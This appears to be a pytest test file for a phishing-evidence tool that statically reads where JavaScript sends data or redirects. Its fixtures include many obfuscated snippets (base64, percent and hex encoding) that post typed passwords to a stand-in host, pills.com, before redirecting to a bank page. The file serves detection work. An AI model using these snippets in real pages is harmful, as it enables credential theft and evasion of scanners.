"""Where scripts lead, as far as it can be read without running them."""

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cpu_time import within
from trapline.reporter.evidence.scripts import opened, written

SCRIPTS = {
    "a location": "window.location = 'http://pills.com/x';",
    "a location's part": 'document.location.href="http://pills.com/x"',
    "a call": "location.replace(`http://pills.com/x`)",
    "a form's action": "document.forms[0].action = 'http://pills.com/x'",
    "a call that posts": "$.post('http://pills.com/x', {p: pw})",
    "a request": 'var x = new XMLHttpRequest(); x.open("POST", "http://pills.com/x", true);',
    "a request of jQuery's": "$.ajax({type: 'POST', data: {p: pw}, url: 'http://pills.com/x'})",
    "a request of jQuery's, the address first": '$.ajax({\n  url: "http://pills.com/x",\n  type: "POST"})',
    "a beacon": "navigator.sendBeacon('http://pills.com/x', d)",
    "a script in base64": "eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cDovL3BpbGxzLmNvbS94Ig=='))",
    "a script in percents": "eval(unescape('location.href%3D%22http://pills.com/x%22'))",
    "a script in base64, named": "var b = 'bG9jYXRpb24uaHJlZj0iaHR0cDovL3BpbGxzLmNvbS94Ig=='; eval(atob(b))",
    "what is fetched": "fetch('http://pills.com/x', { headers: {}, method: 'POST', body: JSON.stringify(d) })",
    "escaped slashes": r"location.href = 'http:\/\/pills.com\/x'",
    "base64": "location.href = atob('aHR0cDovL3BpbGxzLmNvbS94')",
    "a name": "var url = 'http://pills.com/x'; setTimeout(() => { window.location.href = url; }, 900)",
    "a name, and what it is told": 'const next="http://pills.com/x"\nlocation.replace(next + "#" + mail)',
    "a name that is posted to": "let api = 'http://pills.com/x'; $.post(api, {p: pw})",
    "a name that is sent to": "const API_URL = 'http://pills.com/x'; fetch(API_URL, {method: 'POST', body: d})",
    "a name that jQuery sends to": "let to = 1, api = 'http://pills.com/x'; $.ajax({type: 'POST', url: api, data: d})",
    "an attribute": "document.forms[0].setAttribute('action', 'http://pills.com/x')",
    "an attribute of jQuery's": '$(location).attr("href", "http://pills.com/x")',
    "strings that are joined": """location = "ht" + "tp://pil"+"ls.com" + "/x" """,
    "members in brackets": "window['location']['href'] = 'http://pills.com/x'",
    "a call in brackets": 'top["location"]["replace"]("http://pills.com/x")',
    "letters by their codes": r"location = '\x68\x74tp:\u002f\u002fpills.com/x'",
    "members by their codes": r"window['\x6c\x6fcation']['\x68ref'] = 'http://pills.com/x'",
    "percents": "location.href = decodeURIComponent('http%3A%2F%2Fpills.com%2Fx')",
}


@pytest.mark.parametrize("form", SCRIPTS)
def test_the_address_is_read_in_the_form_of(form: str) -> None:
    assert list(opened(SCRIPTS[form])) == ["http://pills.com/x"]


@pytest.mark.parametrize(
    "script",
    [
        "fetch('https://api.geo.com/json').then(r => r.json())",
        "fetch('https://api.geo.com/json', { method: 'GET' })",
        "x.open('GET', 'https://api.geo.com/json')",
        "$.get('https://api.geo.com/json', f); $.getJSON('https://api.geo.com/json')",
        "$.ajax({url: 'https://api.geo.com/json', success: f})",
    ],
)
def test_an_address_that_is_only_asked_is_left_aside(script: str) -> None:
    assert list(opened(script)) == []


@pytest.mark.parametrize(
    "script",
    [
        "fetch('https://api.geo.com/json').then(r => fetch('http://pills.com/x', {method: 'POST', body: r}))",
        "fetch('https://api.geo.com/json').then(r => axios({method: 'POST', url: u})); $.post('http://pills.com/x', p)",
        "$.ajax({url: 'https://api.geo.com/json', success: g => $.ajax({type: 'POST', url: 'http://pills.com/x'})})",
    ],
)
def test_an_address_that_is_asked_before_something_is_sent_elsewhere_is_left_aside(script: str) -> None:
    assert list(opened(script)) == ["http://pills.com/x"]


@pytest.mark.parametrize(
    "script",
    [
        "var url = 'https://api.geo.com/json'; if (x) { url = next(); } location.href = url;",
        "var e = 'https://api.geo.com/json'; location.href = e;",
        "var url = 'https://api.geo.com/json' + key; fetch(url); location.href = url_of(x);",
        "api.url = 'https://api.geo.com/json'; location.href = url;",
        "location.href = url",
        "var api = 'https://api.geo.com/json'; fetch(api).then(f); $.ajax({url: api, success: f})",
        "x.setAttribute('src', 'https://cdn.other.com/a.js')",
    ],
)
def test_a_name_that_may_mean_something_else_leads_nowhere(script: str) -> None:
    assert list(opened(script)) == []


def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
    assert list(opened("import 'https://cdn.other.com/jquery.js'; var doc = 'http://www.w3.org/1999/xhtml'")) == []
    assert list(opened("var l = document.createElement('link'); l.href = 'https://cdn.other.com/a.css?v=2';")) == []
    assert list(opened("$('#icon').attr('href', 'https://www.bank.com/favicon.ico')")) == []


@pytest.mark.parametrize(
    "script",
    [
        "document.write(unescape('%3Cp%3Ex'))",
        "document.write(atob('PHA+eHg='))",
        "const b = 'PHA+eHh4eHh4eHh4eHh4eHh4eHh4eHh4eDwvcD4='; document.write(decodeURIComponent(escape(atob(b))))",
        "document.write('<p>x')",
        'document.writeln( "<p>x</p>" );',
        "document.body.innerHTML = `<p>x`",
        "d.insertAdjacentHTML('beforeend', '<p>x')",
        r"document.write('\x3cp\x3ex')",
        r"document['write']('\u003Cp>x')",
    ],
)
def test_a_page_that_is_written_is_read(script: str) -> None:
    (page,) = written(script)
    assert page.startswith("<p>x")


def test_what_is_escaped_in_a_page_that_is_written_is_read_as_it_is_shown() -> None:
    assert list(written(r"""document.write("<a\n href=\"http:\/\/pills.com\/x\">x")""")) == [
        '<a\n href="http://pills.com/x">x'
    ]
    assert list(written(r"document.write('<a href=\x27http://pills.com/x\x27>x')")) == [
        "<a href='http://pills.com/x'>x"
    ]


@pytest.mark.parametrize(
    "piece",
    [
        "write('<",
        "innerHTML=`<\\",
        "atob('",
        "'" + 50 * "A",
        "insertAdjacentHTML('x',",
        "abc=",
        "location=abc;",
        "'+",
        "fetch(abc,",
        "\\x41",
    ],
)
def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
    began = time.process_time()
    for _ in range(5):
        list(opened("atob" + piece * 20_000))
        list(written("atob" + piece * 20_000))
    assert within(1, began)


SENDING = b"$.post('http://pills.com/x', d)"
GOES_ON = {
    "in a callback": "$.post('http://pills.com/x', d, () => { window.location.replace('https://bank.com/login') })",
    "behind a request": "fetch('http://pills.com/x', {method: 'POST', body: d}); location.href = 'https://bank.com/'",
    "by a name": "let end = 'https://bank.com/'; $.post('http://pills.com/x', d); window.location = end",
    "in a window of its own": "navigator.sendBeacon('http://pills.com/x', d); window.open('https://bank.com/')",
    "by jQuery": "$.post('http://pills.com/x', d); $(location).attr('href', 'https://bank.com/')",
    "and sends in a script that it decodes": (
        f"eval(atob('{base64.b64encode(SENDING).decode()}')); location = 'https://bank.com/'"
    ),
}


@pytest.mark.parametrize("way", GOES_ON)
def test_where_a_script_goes_on_to_once_it_has_sent_what_was_typed_is_left_aside(way: str) -> None:
    assert list(opened(GOES_ON[way])) == ["http://pills.com/x"]


def test_links_and_forms_of_a_page_that_sends_are_read() -> None:
    script = (
        "$.post('http://pills.com/x', d); a.href = 'http://pills.com/y'; $('#f').attr('action', 'http://pills.com/z')"
    )
    assert sorted(opened(script)) == ["http://pills.com/x", "http://pills.com/y", "http://pills.com/z"]


@pytest.mark.parametrize("text", ["éééééééé", "aHR0cDové", "_-_-_-_-_", "=========", "AAAAAAAAA"])
def test_what_is_no_base64_leads_nowhere(text: str) -> None:
    assert list(opened(f"location = atob('{text}')")) == []


@given(
    st.lists(
        st.sampled_from(
            [
                "location",
                "=",
                "'",
                "atob(",
                "ééééééé",
                "\ud800",
                "aHR0c",
                "%",
                "http%3A%2F%2F",
                "unescape('",
                "//",
                "<",
                ".ajax({",
                "fetch(",
                "url:",
                "url;",
                "\\ud83d",
                "\\x27",
            ]
        )
    )
)
def test_no_script_makes_it_raise(pieces: list[str]) -> None:
    script = "".join(pieces)
    assert len([*opened(script), *written(script)]) <= 1_000
